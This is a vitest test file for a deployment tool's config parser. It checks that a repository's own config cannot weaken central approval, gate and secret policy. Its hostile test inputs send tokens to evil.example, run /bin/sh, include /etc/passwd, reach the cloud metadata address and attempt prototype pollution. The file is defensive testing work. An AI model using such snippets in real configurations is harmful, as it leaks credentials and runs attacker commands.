import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { pino } from 'pino';
import { describe, expect, test } from 'vitest';
import { openService } from '../../src/app/services.ts';
import { type Layers, layerWith, mergedSettings } from '../../src/config/layers.ts';
import { policyHash } from '../../src/domain/policy/policy.ts';
import { ADAPTERS, parseConfig } from '../support/all-adapters.ts';

/** Everything is allowed that can be allowed, but for programs and for all variables but one. */
const GENEROUS = '{ may: [alerts, checks, gates, health, logs, metrics, monitor], secrets: [SHOP_TOKEN] }';
const central = (from: string) => `slack: { channel: "#ship" }
freeze: [{ name: night, zone: Europe/Berlin, daily: { from: "22:00", to: "06:00" } }]
defaults:
  approvals: { required: 2, users: [U0GRACE, U0LINUS] }
  permissions: { start: { users: [U0ADA] } }
  gates: [{ use: http, name: compliance, url: "https://gates.example.com" }]
services:
  shop:
    from: ${from}
    repository: { use: git, url: "https://git.example.com/shop.git", token: { env: GIT_TOKEN } }
    target: { use: git-branch, branch: production }
  other:
    repository: { use: git, url: "https://git.example.com/other.git", token: { env: OTHER_TOKEN } }
    target: { use: heroku, app: a, staging: b, token: { env: HEROKU_API_KEY } }
`;

function read(text: string, from = GENEROUS) {
  const ofRepositories = new Map([['shop', { file: 'shop@1a2b3c4/slipway.yaml', text }]]);
  return parseConfig(central(from), 'slipway.yaml', ofRepositories);
}

const ALONE = parseConfig(central(GENEROUS).replace(/^ {4}from: .*\n/m, ''), 'slipway.yaml').services.get(
  'shop',
);

/** What an attacker who may push to a repository would write. */
const HOSTILE: readonly (readonly [what: string, text: string])[] = [
  ['nobody has to approve', 'approvals: { required: 0 }'],
  ['who may approve', 'approvals: { users: [U0MALLORY] }'],
  ['who may approve, by a group', 'approvals: { groups: [S0MALLORY1] }'],
  ['everybody may approve', 'approvals: { who: anyone }'],
  ['approving oneself', 'approvals: { self: true }'],
  ['approvals for ever', 'approvals: { expire: 90d }'],
  ['authors may approve', 'approvals: { authors: allowed, people: { mallory: U0ADA } }'],
  ['whose approval is needed', 'approvals: { from: [{ users: [U0MALLORY] }] }'],
  ['who may start, override and lock', 'permissions: { override: { users: [U0MALLORY] } }'],
  ['breaking the glass', 'break-glass: { acknowledge-within: 90d }'],
  ['another channel, whose members may approve', 'channel: "#mallory"'],
  ['who sees it', 'visibility: workspace'],
  [
    'another repository',
    'repository: { use: git, url: "https://evil.example.com/x.git", token: { env: GIT_TOKEN } }',
  ],
  ['only some paths count', 'paths: [nothing]'],
  ['another target', 'target: { use: git-branch, branch: production-of-other }'],
  ['deleting tags', 'rollback: { tag: delete }'],
  ['people who are called', 'on-call: { use: slack, groups: [S0MALLORY1] }'],
  ['words of channels', 'reports: { channels: ["#secret"] }'],
  ['a service of its own', 'services: { other: { approvals: { required: 1 } } }'],
  ['defaults of others', 'defaults: { approvals: { required: 1 } }'],
  ['limits of its own', 'from: { may: [checks], programs: true, secrets: [OTHER_TOKEN] }'],
  ['includes', 'include: [/etc/passwd]'],
  ['a program as a gate', 'gates: [{ use: command, name: x, run: [/bin/sh, -c, "id"] }]'],
  ['a program as a log', 'logs: [{ use: command, run: [/bin/sh] }]'],
  [
    'a program behind an anchor',
    'links: &x { production: "https://a.example" }\ngates: [{ <<: { use: command }, name: x, run: [id] }]',
  ],
  [
    'the token of another service',
    'checks: [{ use: http, url: "https://evil.example", headers: { X: { env: OTHER_TOKEN } } }]',
  ],
  [
    'its own token elsewhere',
    'metrics: { use: prometheus, url: "https://evil.example", token: { env: GIT_TOKEN } }',
  ],
  ['the token of Slack', 'checks: [{ use: postgres, url: { env: SLACK_BOT_TOKEN } }]'],
  ['secrets of a gate', 'gates: [{ use: command, name: x, run: [id], secrets: [OTHER_TOKEN] }]'],
  [
    'a variable in a map of several',
    'checks: [{ use: http, url: "https://e.example", env: { OTHER_TOKEN: x } }]',
  ],
  [
    'a secret in the file',
    'checks: [{ use: http, url: "https://e.example", headers: { Authorization: "ghp_0123456789abcdefghij" } }]',
  ],
  ['too many aliases', `version: &a { files: [${'x, '.repeat(50)}x] }\nlinks: [${'*a, '.repeat(300)}*a]`],
  ['an alias inside of its own anchor', 'links: &x { production: *x, staging: *x }'],
  ['circles without a key of its own', 'version: &x { a: *x, b: *x }'],
  ['depth', `checks: ${'['.repeat(2_000)}${']'.repeat(2_000)}`],
  ['length', `version: { changelog: "${'x'.repeat(70_000)}" }`],
  ['no map', '- a'],
  ['a prototype', '__proto__: { approvals: { required: 1 } }'],
  ['a prototype of approvals', 'approvals: { __proto__: { users: [U0MALLORY] } }'],
  ['no YAML', 'version: ['],
];

describe('a hostile file in a repository', () => {
  test.each(HOSTILE)('sets nothing that is not its to set: %s', (_what, text) => {
    const { services, refused } = read(text);
    const shop = services.get('shop');
    // Refused whole, with a place; or taken without any effect on what people approve by.
    if (shop === undefined) {
      const said = String(refused.get('shop')?.facts['problems']);
      expect(said).toMatch(/^shop@1a2b3c4\/slipway\.yaml:\d+:\d+ /);
      expect(said).not.toContain('ghp_');
    } else {
      expect(policyHash(shop.service.policy)).toBe(policyHash(ALONE?.service.policy as never));
      expect(shop).toEqual(ALONE);
    }
    // Nobody else is harmed.
    expect([...services.keys()]).toContain('other');
  });

  test('is refused but for a number of approvals, which is raised to what the central files ask for', () => {
    const taken = HOSTILE.filter(([, text]) => read(text).services.has('shop')).map(([what]) => what);
    expect(taken).toEqual(['nobody has to approve']);
  });

  test.each([
    ['an anchor', 'links: &a { production: "https://a.example" }', '1:11'],
    ['an alias', 'links: { production: "https://a.example" }\nmetrics: *a', '2:10'],
    ['a merge key', 'version: {}\nmetrics: { <<: { use: probe } }', '2:12'],
  ])('says where it has %s', (_what, text, place) => {
    expect(String(read(text).refused.get('shop')?.facts['problems'])).toMatch(
      `shop@1a2b3c4/slipway.yaml:${place} not valid YAML: a YAML anchor, alias or merge key`,
    );
  });

  test('a check of its own does not say what was live before, which a rollback would deploy', async () => {
    const server = createServer((_request, response) => response.end('{"version":"1.1.9"}'));
    await once(server.listen(0, '127.0.0.1'), 'listening');
    const { port } = server.address() as AddressInfo;
    const checks = `checks: [{ use: version, url: "http://127.0.0.1:${port}", json: version }]`;
    const text = central(GENEROUS).replace('services:\n  shop:\n', `services:\n  shop:\n    ${checks}\n`);
    const config = parseConfig(text, 'slipway.yaml', new Map([['shop', { file: 'f.yaml', text: checks }]]));
    const settings = config.services.get('shop');
    if (!settings) throw new Error('no service');
    const place = { dir: '/nowhere', dataDir: '/nowhere/data', adapters: ADAPTERS };
    const opened = openService(place, settings, { GIT_TOKEN: 'a-long-secret' }, pino({ level: 'silent' }));
    const told = opened.checks.map((check) => check.told?.(AbortSignal.timeout(5_000)));
    expect(await Promise.all(told)).toEqual(['1.1.9', null]);
    server.close();
  });

  test('takes away neither a gate nor a freeze nor a check', () => {
    const shop = read('gates: []\nfreeze: []\nchecks: []\n').services.get('shop');
    expect(shop?.gates.map(({ name }) => name)).toEqual(['compliance']);
    expect(shop?.service.policy.freeze).toEqual(ALONE?.service.policy.freeze);
  });

  test('cannot have it ship without metrics, and may ask for them', () => {
    const { refused } = read('monitor: { blind: allow }');
    expect(String(refused.get('shop')?.facts['problems'])).toContain('this would ship without metrics');
    expect(
      read('monitor: { window: 30m, blind: refuse }').services.get('shop')?.service.monitoring.windowMs,
    ).toBe(30 * 60_000);
  });

  test('asks for fewer approvals in vain, and everybody who looks is told the number that holds', () => {
    const file = { file: 'shop@1a2b3c4/slipway.yaml', text: 'approvals: { required: 0 }\n' };
    const { services, layers } = parseConfig(central(GENEROUS), 'slipway.yaml', new Map([['shop', file]]));
    const own = layers.get('shop') as Layers;
    const { approvals } = mergedSettings(own).whole as { approvals?: { required?: number } };
    expect(approvals?.required ?? 1).toBe(services.get('shop')?.service.policy.approvals);
    expect(layerWith(own, ['approvals', 'required'])?.source.file).not.toBe(file.file);
  });

  test('sets only what asks nobody where the central files say no more', () => {
    for (const text of [
      'checks: []',
      'metrics: { use: probe, url: "http://169.254.169.254" }',
      'monitor: { blind: allow }',
    ]) {
      expect(read(text, 'repository').refused.get('shop'), text).toBeDefined();
    }
    const { services } = read('version: { changelog: NEWS.md }\nlinks: {}\n# nothing else', 'repository');
    expect(services.get('shop')?.service.changelog).toBe('NEWS.md');
  });

  test('does not say what may differ from what was validated: what it names itself is told apart', () => {
    const { services } = read(
      'state: { folders: [src, specs], shared: [deploy.yaml] }\nversion: { changelog: src/server.js }',
      'repository',
    );
    expect(services.get('shop')?.service.namedByRepository).toEqual(['src', 'deploy.yaml', 'src/server.js']);
    expect(ALONE?.service).not.toHaveProperty('namedByRepository');
  });

  test('with the variable that it may use is taken, and with a program where it may', () => {
    const check = 'checks: [{ use: http, url: "https://a.example", headers: { X: { env: SHOP_TOKEN } } }]';
    expect(read(check).services.get('shop')?.checks).toHaveLength(1);
    const gate = 'gates: [{ use: command, name: x, run: [./gate.sh] }]';
    expect(read(gate, '{ may: [gates], programs: true }').services.get('shop')?.gates).toHaveLength(2);
  });
});

/** Addresses and tokens of those who run Slipway, for every service. */
const WITH_SOURCES = `slack: { channel: "#ship" }
defaults:
  metrics: METRICS
  checks: [{ use: http, url: "https://shop.example.com", headers: { X-Key: { env: CHECK_TOKEN } } }]
  gates: [{ use: http, name: slo, url: "https://slo.example.com", headers: { X-Key: { env: GATE_TOKEN } } }]
  alerts: [{ use: alertmanager, url: "https://alerts.example.com", labels: { service: shop }, bearer: { env: ALERT_TOKEN } }]
  logs: [{ use: loki, url: "https://logs.example.com", query: "{app=\\"shop\\"} |= \\"error\\"", bearer: { env: LOG_TOKEN } }]
services:
  shop:
    from: { may: [alerts, checks, gates, health, logs, metrics, monitor] }
    repository: { use: git, url: "https://git.example.com/shop.git" }
    target: { use: git-branch, branch: production }
OWN`;
const PROMETHEUS = '{ use: prometheus, url: "https://prometheus.example.com", bearer: { env: PROM_TOKEN } }';

describe('the sources of those who run Slipway', () => {
  const taken = (text: string, metrics = PROMETHEUS, own = '') => {
    const ofRepositories = new Map([['shop', { file: 'shop@1a2b3c4/slipway.yaml', text }]]);
    const whole = WITH_SOURCES.replace('METRICS', metrics).replace('OWN', own);
    const { services, refused, remote } = parseConfig(whole, 'slipway.yaml', ofRepositories);
    const said = (refused.get('shop')?.facts['problems'] as string[] | undefined)?.join('\n') ?? '';
    return { shop: services.get('shop'), central: remote.get('shop')?.central, said };
  };
  const named = `[${PROMETHEUS}, { use: probe, name: page, url: "https://shop.example.com" }]`;

  test.each([
    ['another address', 'metrics: { url: "https://evil.example" }', 'metrics'],
    ['another address in a list', 'metrics: [{ url: "https://evil.example" }]', 'metrics.0'],
    ['further headers', 'metrics: { headers: { X-Forwarded-Host: evil.example } }', 'metrics'],
    ['nothing instead of them', 'metrics:', 'metrics'],
    ['a word instead of them', 'metrics: none', 'metrics'],
    ['a check', 'checks: { url: "https://evil.example" }', 'checks'],
    ['a check in a list', 'checks: [{ url: "https://evil.example" }]', 'checks.0'],
    ['a check by its number', 'checks: { 0: { url: "https://evil.example" } }', 'checks'],
    ['a gate', 'gates: { 0: { url: "https://evil.example" } }', 'gates'],
    ['alerts', 'alerts: { url: "https://evil.example" }', 'alerts'],
    ['logs', 'logs: { url: "https://evil.example" }', 'logs'],
    ['a list in a list', 'logs: [[{ use: loki }]]', 'logs.0'],
    ['a list where a map is', 'approvals: []', 'approvals'],
    ['no map', 'version: [a]', 'version'],
    ['a map where a list is', 'freeze: { name: night }', 'freeze'],
  ])('are not changed: %s', (_what, text, at) => {
    for (const metrics of [PROMETHEUS, named]) {
      for (const own of [
        '',
        `    metrics: ${PROMETHEUS}\n    checks: [{ use: tcp, host: a.example, port: 1 }]\n`,
      ]) {
        const { shop, said } = taken(text, metrics, own);
        expect(shop, said).toBeUndefined();
        expect(said).toMatch(new RegExp(`^shop@1a2b3c4/slipway\\.yaml:\\d+:\\d+ ${at}: `));
      }
    }
  });

  test.each(['metrics', 'alerts', 'checks', 'gates', 'logs'] as const)(
    'stand as they are before what the repository adds to its %s',
    (port) => {
      const added = {
        metrics: '{ use: prometheus, name: own, url: "https://own.example" }',
        alerts: '[{ use: alertmanager, name: own, url: "https://own.example", labels: { a: b } }]',
        checks: '[{ use: http, url: "https://own.example" }]',
        gates: '[{ use: http, name: own, url: "https://own.example" }]',
        logs: '[{ use: loki, name: own, url: "https://own.example", query: "{a=\\"b\\"}" }]',
      };
      const { shop, central, said } = taken(`${port}: ${added[port]}`);
      expect(said).toBe('');
      const before = central?.[port] ?? [];
      expect(shop?.[port]).toHaveLength(before.length + 1);
      expect(shop?.[port].slice(0, -1)).toEqual(before);
      const own = JSON.stringify(shop?.[port].at(-1));
      expect(own).toContain('own.example');
      expect(own).not.toContain('TOKEN');
    },
  );

  test('a mistake in the only one that it adds is said at its place', () => {
    const { said } = taken('metrics:\n  use: prometheus\n  name: own\n  url: "ftp://own.example"\n');
    expect(said).toMatch(/^shop@1a2b3c4\/slipway\.yaml:4:8 metrics\.url: /);
  });

  test.each([
    [
      'of the environment or this machine',
      'metrics: { use: cloudwatch, name: x, region: eu-central-1, load-balancer: app/shop/50dc6c495c0c9188 }',
    ],
    [
      'of a profile',
      'logs: [{ use: cloudwatch-logs, name: x, region: eu-central-1, group: g, profile: admin }]',
    ],
    [
      'with half a key',
      'alerts: [{ use: cloudwatch, name: x, region: eu-central-1, names: [a], access-key: { env: SHOP_KEY } }]',
    ],
  ])('an account of AWS %s is none of the repository', (_what, text) => {
    const { shop, said } = taken(text);
    expect(shop).toBeUndefined();
    expect(said).toContain('this repository may not use the account that this machine has');
  });

  test.each([
    ['checks.0.ca', 'checks: [{ use: tls, host: a.example, ca: /dev/zero }]'],
    ['checks.0.tls.ca', 'checks: [{ use: postgres, url: { env: X }, tls: { ca: ../key.pem } }]'],
  ])('files of this machine are none of the repository: %s', (at, text) => {
    const { said } = taken(text);
    expect(said).toContain(`${at}: this repository may not name files of this machine`);
  });

  test('how long a share is watched is set with the monitoring; which shares there are is not', () => {
    const own = '    stages: [5%, 100%]\n';
    const { shop, said } = taken('monitor: { stage: 10m }', PROMETHEUS, own);
    expect(said).toBe('');
    expect(shop?.service.stages).toEqual({ shares: [5, 100], watchMs: 10 * 60_000 });
    expect(taken('stages: [50%, 100%]', PROMETHEUS, own).shop).toBeUndefined();
  });
});
